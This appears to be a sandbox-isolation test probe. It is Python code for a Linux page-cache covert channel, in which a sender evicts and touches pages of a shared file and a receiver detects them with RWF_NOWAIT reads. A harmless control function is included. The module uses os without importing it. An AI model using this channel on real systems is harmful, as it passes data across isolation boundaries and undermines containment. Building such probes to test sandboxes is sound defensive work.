"""Ask which pages of a shared file are in memory.

Technique: The page cache of shared files is the machine's. posix_fadvise(POSIX_FADV_DONTNEED) drops pages that nobody
    has mapped; reading brings some of them back; preadv2(RWF_NOWAIT) tells without reading which are there (Gruss et
    al., Page Cache Attacks, 2019; mincore was closed then, CVE-2019-5489, this was not).
Success: the receiver has the sender's message.
Stopped by: seccomp, root_filesystem
"""

import time

PAGE = 4096


def shared_file():
    """A large file that nobody is likely to use meanwhile, without readahead."""
    path = os.path.join(os.path.dirname(os.__file__), "pydoc_data", "topics.py")
    fd = os.open(path, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    return fd


def send(message, meeting, until):
    fd = shared_file()
    time.sleep(max(0.0, until - 1.5 - time.time()))
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    for place, bit in enumerate(f"{int(message, 16):032b}"):
        if bit == "1":
            os.pread(fd, 1, place * 4 * PAGE)


def receive(meeting, until):
    fd = shared_file()
    time.sleep(max(0.0, until - 0.7 - time.time()))
    bits = ""
    for place in range(32):
        try:
            os.preadv(fd, [bytearray(1)], place * 4 * PAGE, os.RWF_NOWAIT)
            bits += "1"
        except BlockingIOError:
            bits += "0"
    return f"{int(bits, 2):08x}"


def twin():
    """A program reads at places, and gives advice about a file of its own."""
    with open("/work/data", "w+b") as file:
        file.write(b"x" * 3 * PAGE)
        file.flush()
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_SEQUENTIAL)
        buffer = bytearray(10)
        assert os.preadv(file.fileno(), [buffer], PAGE) == 10 and buffer == b"x" * 10
